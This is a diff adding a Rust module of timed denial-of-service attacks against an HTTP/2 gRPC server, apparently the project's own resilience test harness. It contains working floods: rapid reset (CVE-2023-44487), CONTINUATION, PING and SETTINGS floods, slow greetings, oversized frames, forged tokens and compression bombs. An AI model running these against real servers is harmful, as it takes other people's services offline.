@@ -1,0 +1,289 @@
+//! The attacks: each goes on until its time is over, as fast as a slow line lets it.
+
+use std::net::TcpStream;
+use std::sync::Arc;
+use std::thread::sleep;
+use std::time::{Duration, Instant};
+
+use tokio_rustls::rustls::ClientConfig;
+
+use super::frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, Endings, HEADERS, PING, Peer, RST_STREAM, SETTINGS, frame,
+    head, message, varint,
+};
+
+/// Whom it is against, and what the attacker has got hold of.
+pub(crate) struct Target {
+    pub(crate) address: String,
+    pub(crate) config: Arc<ClientConfig>,
+    /// An invited worker's.
+    pub(crate) token: String,
+    /// The address of the pages.
+    pub(crate) pages: String,
+    /// For HTTP/1.1.
+    pub(crate) http: Arc<ClientConfig>,
+    /// An invited viewer's token.
+    pub(crate) viewer: String,
+    /// How many connections, where many are the attack.
+    pub(crate) n_connections: usize,
+}
+
+/// What came of an attack.
+#[derive(Debug, Default)]
+pub(crate) struct Outcome {
+    /// Frames, requests or connections, whatever it is made of.
+    pub(crate) n_sent: u64,
+    pub(crate) endings: Endings,
+}
+
+/// An attack.
+pub(crate) struct Kind {
+    pub(crate) name: &'static str,
+    pub(crate) run: fn(&Target, Instant) -> Outcome,
+}
+
+/// Pauses between two bursts: an attacker on the same machine as its victim must not simply take its processor.
+const PAUSE: Duration = Duration::from_millis(10);
+
+const SESSION: &str = "/queens.v1.Workers/Session";
+
+pub(crate) const KINDS: [Kind; 19] = [
+    Kind { name: "idle connections", run: idle },
+    Kind { name: "half-open TLS handshakes", run: half_open },
+    Kind { name: "whole TLS handshakes, one after the other", run: handshakes },
+    Kind { name: "greetings that come byte by byte", run: slow_greetings },
+    Kind { name: "rapid reset", run: rapid_reset },
+    Kind { name: "CONTINUATION flood", run: continuations },
+    Kind { name: "PING flood", run: |target, end| flood(target, end, &frame(PING, 0, 0, &[7; 8])) },
+    Kind { name: "SETTINGS flood", run: |target, end| flood(target, end, &frame(SETTINGS, 0, 0, &[])) },
+    Kind { name: "frames that are too large", run: large_frames },
+    Kind { name: "heads that are too large", run: large_heads },
+    Kind { name: "requests without a token", run: |target, end| requests(target, end, None, &[]) },
+    Kind { name: "wrong tokens", run: wrong_tokens },
+    Kind {
+        name: "messages of 4 GiB",
+        run: |target, end| speak(target, end, &[], &message(false, u32::MAX, &[1; 64])),
+    },
+    Kind { name: "large messages that never end", run: never_ending },
+    Kind { name: "messages with too many empty parts", run: empty_parts },
+    Kind { name: "large messages of strangers", run: strangers },
+    Kind { name: "compression bombs", run: bombs },
+    Kind {
+        name: "messages that make no sense",
+        run: |target, end| speak(target, end, &[], &message(false, 64, &[0xff; 64])),
+    },
+    Kind { name: "sessions that say nothing", run: |target, end| speak(target, end, &[], &[]) },
+];
+
+/// Has one connection after the other do something until it is closed.
+fn again_and_again(
+    target: &Target,
+    end: Instant,
+    mut burst: impl FnMut(&mut Peer, &mut u32) -> Option<u64>,
+) -> Outcome {
+    let mut outcome = Outcome::default();
+    while Instant::now() < end {
+        let Some(mut peer) = Peer::greet(&target.address, &target.config) else {
+            *outcome.endings.entry("no connection".to_owned()).or_default() += 1;
+            sleep(PAUSE);
+            continue;
+        };
+        let mut stream = 1;
+        while Instant::now() < end && stream < 100_000 {
+            match burst(&mut peer, &mut stream) {
+                Some(n_sent) => outcome.n_sent += n_sent,
+                None => {
+                    _ = peer.listen(&mut outcome.endings);
+                    break;
+                }
+            }
+            if !peer.listen(&mut outcome.endings) {
+                break;
+            }
+            sleep(PAUSE);
+        }
+    }
+    outcome
+}
+
+fn idle(target: &Target, end: Instant) -> Outcome {
+    let mut all = Vec::new();
+    while all.len() < target.n_connections && Instant::now() < end {
+        all.extend(TcpStream::connect(&target.address).ok());
+        if all.len() % 100 == 0 {
+            sleep(PAUSE);
+        }
+    }
+    sleep(end.saturating_duration_since(Instant::now()));
+    Outcome { n_sent: all.len() as u64, ..Outcome::default() }
+}
+
+fn half_open(target: &Target, end: Instant) -> Outcome {
+    use std::io::Write;
+    let mut all = Vec::new();
+    while all.len() < target.n_connections.min(2000) && Instant::now() < end {
+        if let Ok(mut stream) = TcpStream::connect(&target.address) {
+            _ = stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
+            all.push(stream);
+        }
+        if all.len() % 100 == 0 {
+            sleep(PAUSE);
+        }
+    }
+    sleep(end.saturating_duration_since(Instant::now()));
+    Outcome { n_sent: all.len() as u64, ..Outcome::default() }
+}
+
+fn handshakes(target: &Target, end: Instant) -> Outcome {
+    let mut outcome = Outcome::default();
+    while Instant::now() < end {
+        match Peer::connect(&target.address, &target.config) {
+            Some(_) => outcome.n_sent += 1,
+            None => *outcome.endings.entry("no connection".to_owned()).or_default() += 1,
+        }
+    }
+    outcome
+}
+
+fn slow_greetings(target: &Target, end: Instant) -> Outcome {
+    let mut outcome = Outcome::default();
+    let n_peers = target.n_connections.min(200);
+    let mut peers: Vec<Peer> =
+        (0..n_peers).filter_map(|_| Peer::connect(&target.address, &target.config)).collect();
+    for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".iter().cycle() {
+        peers.retain_mut(|peer| peer.send(&[*byte]));
+        outcome.n_sent += peers.len() as u64;
+        if Instant::now() >= end {
+            break;
+        }
+        sleep(Duration::from_millis(200));
+    }
+    outcome
+}
+
+/// Requests that are taken back as soon as they are made (CVE-2023-44487).
+fn rapid_reset(target: &Target, end: Instant) -> Outcome {
+    let head = head(SESSION, Some(&target.token), &[]);
+    again_and_again(target, end, |peer, stream| {
+        let mut burst = Vec::new();
+        for _ in 0..50 {
+            burst.extend(frame(HEADERS, END_HEADERS, *stream, &head));
+            burst.extend(frame(RST_STREAM, 0, *stream, &[0, 0, 0, 8]));
+            *stream += 2;
+        }
+        peer.send(&burst).then_some(50)
+    })
+}
+
+/// A head that never ends.
+fn continuations(target: &Target, end: Instant) -> Outcome {
+    let head = head(SESSION, None, &[]);
+    again_and_again(target, end, |peer, stream| {
+        let mut burst = Vec::new();
+        if *stream == 1 {
+            burst.extend(frame(HEADERS, 0, 1, &head));
+            *stream = 3;
+        }
+        for _ in 0..50 {
+            burst.extend(frame(CONTINUATION, 0, 1, &[]));
+            burst.extend(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"));
+        }
+        peer.send(&burst).then_some(100)
+    })
+}
+
+fn flood(target: &Target, end: Instant, one: &[u8]) -> Outcome {
+    let burst = one.repeat(200);
+    again_and_again(target, end, |peer, _| peer.send(&burst).then_some(200))
+}
+
+fn large_frames(target: &Target, end: Instant) -> Outcome {
+    let mut large = frame(DATA, 0, 1, &[0; 64]);
+    large[..3].copy_from_slice(&[0xff; 3]);
+    again_and_again(target, end, |peer, _| peer.send(&large).then_some(1))
+}
+
+fn large_heads(target: &Target, end: Instant) -> Outcome {
+    let long = "x".repeat(100);
+    let more: Vec<_> = (0..120).map(|_| ("x-long", long.as_str())).collect();
+    let head = head(SESSION, Some(&target.token), &more);
+    let more = frame(CONTINUATION, 0, 1, &head);
+    again_and_again(target, end, |peer, stream| {
+        if *stream == 1 {
+            *stream = 3;
+            return peer.send(&frame(HEADERS, 0, 1, &head)).then_some(1);
+        }
+        peer.send(&more).then_some(1)
+    })
+}
+
+fn requests(target: &Target, end: Instant, token: Option<&str>, more: &[(&str, &str)]) -> Outcome {
+    let head = head("/queens.v1.Jobs/Submit", token, more);
+    again_and_again(target, end, |peer, stream| {
+        let mut burst = Vec::new();
+        for _ in 0..20 {
+            burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, *stream, &head));
+            *stream += 2;
+        }
+        peer.send(&burst).then_some(20)
+    })
+}
+
+fn wrong_tokens(target: &Target, end: Instant) -> Outcome {
+    let wrong = format!("queens_1_{}", "0123456789abcdef".repeat(4));
+    requests(target, end, Some(&wrong), &[])
+}
+
+/// Opens sessions with a worker's token, and says something on each.
+fn speak(target: &Target, end: Instant, more: &[(&str, &str)], said: &[u8]) -> Outcome {
+    let head = head(SESSION, Some(&target.token), more);
+    again_and_again(target, end, |peer, stream| {
+        let mut burst = frame(HEADERS, END_HEADERS, *stream, &head);
+        if !said.is_empty() {
+            burst.extend(frame(DATA, 0, *stream, said));
+        }
+        *stream += 2;
+        peer.send(&burst).then_some(1)
+    })
+}
+
+/// Messages of 16 MiB of which the beginning comes.
+fn never_ending(target: &Target, end: Instant) -> Outcome {
+    speak(target, end, &[], &message(false, 16 << 20, &[1; 8000]))
+}
+
+/// Messages of 4 MiB, of which half comes, to what anybody may ask.
+fn strangers(target: &Target, end: Instant) -> Outcome {
+    let head = head("/grpc.health.v1.Health/Check", None, &[]);
+    again_and_again(target, end, |peer, stream| {
+        let mut burst = frame(HEADERS, END_HEADERS, *stream, &head);
+        burst.extend(frame(DATA, 0, *stream, &message(false, 4 << 20, &[1; 8000])));
+        *stream += 2;
+        peer.send(&burst).then_some(1)
+    })
+}
+
+/// Reports of empty deltas, more than there may be.
+fn empty_parts(target: &Target, end: Instant) -> Outcome {
+    let report = [0x12, 0].repeat(8193);
+    // A report of so many bytes.
+    let mut said = vec![0x12];
+    varint(&mut said, report.len());
+    said.extend(report);
+    let length = u32::try_from(said.len()).expect("small");
+    // In two frames: one holds no more than 16 KiB.
+    let (first, second) = said.split_at(12_000);
+    let head = head(SESSION, Some(&target.token), &[]);
+    again_and_again(target, end, |peer, stream| {
+        let mut burst = frame(HEADERS, END_HEADERS, *stream, &head);
+        burst.extend(frame(DATA, 0, *stream, &message(false, length, first)));
+        burst.extend(frame(DATA, 0, *stream, second));
+        *stream += 2;
+        peer.send(&burst).then_some(1)
+    })
+}
+
+/// Messages that say they are compressed: a million zeros would be a kilobyte.
+fn bombs(target: &Target, end: Instant) -> Outcome {
+    speak(target, end, &[("grpc-encoding", "gzip")], &message(true, 64, &[0x1f; 64]))
+}
